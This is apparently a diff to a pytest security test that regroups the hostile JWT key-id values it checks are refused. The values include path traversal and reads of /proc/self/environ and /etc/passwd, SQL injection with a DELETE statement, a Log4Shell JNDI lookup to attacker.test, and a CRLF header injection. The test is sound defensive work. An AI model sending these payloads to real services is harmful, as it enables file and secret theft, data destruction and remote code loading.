@@ -144,21 +144,10 @@ async def test_keys_and_key_urls_in_the_header_are_ignored(
 @pytest.mark.parametrize(
     "kid",
     [
-        "../../../../../../dev/null",
-        "/proc/self/environ",
-        "file:///etc/passwd",
-        "' OR '1'='1' --",
-        "x'; DELETE FROM signing_keys; --",
-        "x' UNION SELECT 'x",
-        "${jndi:ldap://attacker.test}",
-        "x" * 4000,
-        "\x00",
-        "key\r\nX-Injected: yes",
-        "",
-        None,
-        7,
-        ["x"],
-        {"x": 1},
+        *("../../../../../../dev/null", "/proc/self/environ", "file:///etc/passwd"),
+        *("' OR '1'='1' --", "x'; DELETE FROM signing_keys; --", "x' UNION SELECT 'x"),
+        *("${jndi:ldap://attacker.test}", "x" * 4000, "\x00", "key\r\nX-Injected: yes"),
+        *("", None, 7, ["x"], {"x": 1}),
     ],
 )
 async def test_unknown_key_id_is_refused(anonymous: AsyncClient, token: Token, kid: object) -> None:
